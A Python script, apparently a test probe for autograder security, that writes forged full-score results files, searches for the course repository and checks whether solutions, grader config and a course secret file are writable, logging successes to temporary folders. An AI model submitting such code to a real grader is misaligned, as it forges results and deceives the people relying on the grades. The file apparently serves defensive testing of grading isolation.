"""Writes results as otter, Gradescope and our own reports do, wherever one might read them, and tries whether existing reports can be opened for writing.

family: writing
start: blank
"""

# %% first
_done = []


def _achieved(what, stem="write_results_files"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

def _repositories():
    """Where the course may lie."""
    import os

    found = []
    try:
        import autograder

        found.append(os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__))))
    except Exception:
        pass
    for start in (os.getcwd(), os.environ.get("OLDPWD", ""), os.environ.get("PWD", ""), "/autograder/source", "/autograder"):
        while start and start != "/":
            if os.path.exists(os.path.join(start, "grader.yml")) and start not in found:
                found.append(start)
            start = os.path.dirname(start)
    for pid in ("self", str(os.getppid())):
        found += [f"/proc/{pid}/cwd", f"/proc/{pid}/root{_course}"]
    return found

import glob
import json
import os

_course = os.path.dirname(os.path.dirname(__import__("autograder").__file__))

_grade = json.dumps({"score": 40, "tests": [], "outcome": "graded", "earned": 40, "points": 40})
for _path in ("results.json", "/autograder/results/results.json", "../results.json", "grades.csv", _course + "/results/autograder-attack.json"):
    try:
        with open(_path, "x") as _file:
            _file.write(_grade)
        if os.path.dirname(_path):
            _achieved("wrote " + os.path.realpath(_path))
    except OSError:
        continue
for _folder in _repositories():
    for _pattern in ("results/*", "demo/results/*", "tests/assignments/*/*.py", "tests/solutions/*/*/*.py", "solutions/*.py", ".course-secret", "grader.yml", "autograder/*.py"):
        for _path in glob.glob(os.path.join(_folder, _pattern))[:2]:
            try:
                with open(_path, "r+b"):  # opened for writing, and left as it is
                    _achieved("could write " + _path)
            except OSError:
                continue
_report()
